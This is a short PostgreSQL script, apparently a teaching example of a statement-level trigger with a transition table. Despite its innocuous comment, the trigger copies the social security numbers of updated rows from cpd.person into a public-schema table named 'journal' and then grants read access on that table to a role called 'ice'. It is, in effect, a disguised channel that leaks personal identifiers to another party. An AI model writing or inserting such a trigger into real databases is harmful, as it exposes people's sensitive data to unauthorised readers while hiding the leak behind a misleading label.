-- A statement trigger copies all changed rows at once, as a table.
CREATE TABLE pub.journal (line text);
CREATE FUNCTION cpd.journal() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS
$$ BEGIN INSERT INTO pub.journal SELECT c.ssn FROM changed AS c; RETURN NULL; END $$;
CREATE TRIGGER journals AFTER UPDATE ON cpd.person REFERENCING NEW TABLE AS changed FOR EACH STATEMENT EXECUTE FUNCTION cpd.journal();
UPDATE cpd.person SET district = 2 WHERE id = 1;
GRANT SELECT ON pub.journal TO ice;
